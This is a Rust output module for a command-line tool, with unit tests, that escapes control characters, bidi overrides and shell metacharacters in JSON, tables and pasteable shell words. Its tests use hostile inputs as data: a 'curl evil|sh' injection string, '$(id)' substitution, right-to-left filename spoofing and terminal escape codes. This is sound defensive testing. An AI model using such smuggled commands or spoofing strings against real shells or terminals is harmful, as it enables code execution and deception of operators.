//! What commands print for people and for scripts. This is program output,
//! not logging (logs go to stderr through `tracing`).

use std::io::Write;

pub use gatehouse_core::escape_for_display as escape;

/// Writes one line to standard output; a closed pipe is not an error worth a panic.
pub fn line(text: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{text}");
    let _ = out.flush();
}

/// Prints `error: MESSAGE` on standard error, on one line: a message can
/// quote stored names, so control characters in it are escaped too.
pub fn error(message: &str) {
    let mut err = std::io::stderr().lock();
    let _ = writeln!(err, "error: {}", escape(message));
    let _ = err.flush();
}

/// An error and its causes as one line. Many errors already include their
/// cause in their own text (`cannot read F: No such file or directory`), so a
/// cause that the text so far already contains is not repeated.
pub fn error_message(error: &anyhow::Error) -> String {
    let mut message = error.to_string();
    for cause in error.chain().skip(1) {
        let cause = cause.to_string();
        if !message.contains(&cause) {
            message.push_str(": ");
            message.push_str(&cause);
        }
    }
    message
}

/// A value as one line of JSON. Values hold what callers chose (tool
/// names, arguments, agent names), and serde_json escapes only the C0
/// controls: bidi overrides, C1 controls and invisible characters are
/// written as JSON escapes too, so the same value cannot drive the
/// operator's terminal.
pub fn json(value: &serde_json::Value) {
    line(&gatehouse_core::escape_json_for_display(&value.to_string()));
}

/// A JSON array written element by element, so a long listing is never
/// held whole: the same text `json` would print for the whole array.
pub struct JsonArray<W: Write> {
    out: W,
    empty: bool,
}

impl JsonArray<std::io::BufWriter<std::io::Stdout>> {
    /// An array on standard output.
    pub fn start() -> Self {
        JsonArray::to(std::io::BufWriter::new(std::io::stdout()))
    }
}

impl<W: Write> JsonArray<W> {
    fn to(mut out: W) -> Self {
        let _ = out.write_all(b"[");
        JsonArray { out, empty: true }
    }

    pub fn push(&mut self, value: &serde_json::Value) {
        if !self.empty {
            let _ = self.out.write_all(b",");
        }
        self.empty = false;
        let text = value.to_string();
        let _ = self
            .out
            .write_all(gatehouse_core::escape_json_for_display(&text).as_bytes());
    }

    pub fn finish(mut self) -> W {
        let _ = self.out.write_all(b"]\n");
        let _ = self.out.flush();
        self.out
    }
}

/// Left-aligned columns. Cells hold stored strings that callers may have
/// chosen (names, tools, arguments), so each is escaped: no cell can break
/// the line, move the cursor or reorder the text around it.
pub fn table(headers: &[&str], rows: &[Vec<String>]) {
    for text in table_lines(headers, rows) {
        line(&text);
    }
}

fn table_lines(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
    let rows: Vec<Vec<String>> = rows
        .iter()
        .map(|row| row.iter().map(|cell| escape(cell).into_owned()).collect())
        .collect();
    let mut widths: Vec<usize> = headers.iter().map(|h| h.len()).collect();
    for row in &rows {
        for (i, cell) in row.iter().enumerate() {
            if let Some(w) = widths.get_mut(i) {
                *w = (*w).max(cell.chars().count());
            }
        }
    }
    let render = |cells: Vec<String>| {
        cells
            .iter()
            .enumerate()
            .map(|(i, c)| format!("{:<width$}", c, width = widths.get(i).copied().unwrap_or(0)))
            .collect::<Vec<_>>()
            .join("  ")
            .trim_end()
            .to_string()
    };
    std::iter::once(render(headers.iter().map(|h| h.to_string()).collect()))
        .chain(rows.into_iter().map(render))
        .collect()
}

/// `text` as one word for a POSIX shell, for a command printed to be
/// pasted: as it is when it holds nothing a shell reads specially, else in
/// single quotes (a name an upstream or a client chose may hold anything).
pub fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':');
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_string();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    #[test]
    fn an_array_written_element_by_element_is_the_array_as_one_value() {
        for values in [
            vec![],
            vec![serde_json::json!({"id": "a", "n": 1})],
            vec![
                serde_json::json!({"id": "a"}),
                serde_json::json!("b\"c"),
                serde_json::json!(null),
            ],
        ] {
            let mut array = JsonArray::to(Vec::new());
            for value in &values {
                array.push(value);
            }
            let written = String::from_utf8(array.finish()).unwrap();
            assert_eq!(written, format!("{}\n", serde_json::Value::Array(values)));
        }
    }

    use super::*;

    #[test]
    fn json_listings_cannot_reorder_or_drive_the_terminal() {
        let value = serde_json::json!({"tool": "x\u{202E}gpj.exe", "agent": "a\u{9b}2J"});
        let mut array = JsonArray::to(Vec::new());
        array.push(&value);
        let written = String::from_utf8(array.finish()).unwrap();
        assert!(
            !written.contains('\u{202E}') && !written.contains('\u{9b}'),
            "{written}"
        );
        assert!(
            written.contains("\\u202e") && written.contains("\\u009b"),
            "{written}"
        );
        let read: serde_json::Value = serde_json::from_str(&written).unwrap();
        assert_eq!(read, serde_json::Value::Array(vec![value]));
    }

    #[test]
    fn table_cells_cannot_break_lines_or_hide_text() {
        let lines = table_lines(
            &["NAME", "OWNER"],
            &[
                vec!["x\nforged row".into(), "bob\u{202E}moc.evil".into()],
                vec!["plain".into(), "\u{1b}[2Jalice".into()],
            ],
        );
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[1], r"x\nforged row  bob\u{202e}moc.evil");
        assert_eq!(lines[2], r"plain          \u{1b}[2Jalice");
        for line in &lines {
            assert!(
                !line.chars().any(gatehouse_core::is_unsafe_to_show),
                "{line:?}"
            );
        }
    }

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read /x: {source}")]
    struct ReadError {
        source: std::io::Error,
    }

    #[test]
    fn a_cause_already_in_the_message_is_not_repeated() {
        let io = std::io::Error::from(std::io::ErrorKind::NotFound);
        let io_text = io.to_string();
        let error = anyhow::Error::new(ReadError { source: io });
        let message = error_message(&error);
        assert_eq!(message, format!("cannot read /x: {io_text}"));
        assert_eq!(message.matches(&io_text).count(), 1);
    }

    #[test]
    fn a_new_cause_is_appended() {
        let error = anyhow::anyhow!("disk on fire").context("cannot save the key");
        assert_eq!(error_message(&error), "cannot save the key: disk on fire");
    }

    #[test]
    fn a_name_chosen_by_an_upstream_is_one_inert_shell_word() {
        assert_eq!(shell_word("read_text_file"), "read_text_file");
        assert_eq!(shell_word("x;curl evil|sh;"), "'x;curl evil|sh;'");
        assert_eq!(shell_word("it's $(id)"), "'it'\\''s $(id)'");
        assert_eq!(shell_word(""), "''");
        // What a shell makes of it is the name itself.
        for name in ["x;curl evil|sh;", "it's $(id) `id`", "a b\\c", "-rf"] {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf %s {}", shell_word(name)))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8_lossy(&out.stdout), name);
        }
    }
}
